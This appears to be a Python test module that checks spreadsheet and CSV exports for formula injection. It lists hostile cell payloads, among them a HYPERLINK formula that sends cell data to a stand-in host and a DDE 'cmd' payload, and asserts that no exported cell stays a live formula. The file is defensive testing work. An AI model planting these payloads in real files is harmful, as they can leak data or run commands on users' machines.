"""What the export tests of every layer check: text a spreadsheet would run, and that none runs."""

from __future__ import annotations

import io
import zipfile

import pandas as pd

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "'=already quoted",
]
"""Cell texts that Excel or LibreOffice would run as formulas, and one already quoted."""


def no_formulas(xlsx: bytes) -> None:
    """No cell of the workbook is a formula and no text starts with a formula character."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    for sheet, frame in pd.read_excel(io.BytesIO(xlsx), sheet_name=None, header=None).items():
        for value in frame.to_numpy().ravel():
            if isinstance(value, str):
                assert value[0] not in "=+-@\t\r", (sheet, value)


def csv_cells_are_safe(text: str, sep: str = ",") -> list[list[str]]:
    import csv

    rows = list(csv.reader(io.StringIO(text), delimiter=sep))
    for row in rows:
        for cell in row:
            if cell and cell[0] in "=+@\t\r":
                raise AssertionError(f"live formula {cell!r}")
            if cell.startswith("-"):
                float(cell.replace(",", "."))  # only a negative number may start with '-'
    return rows
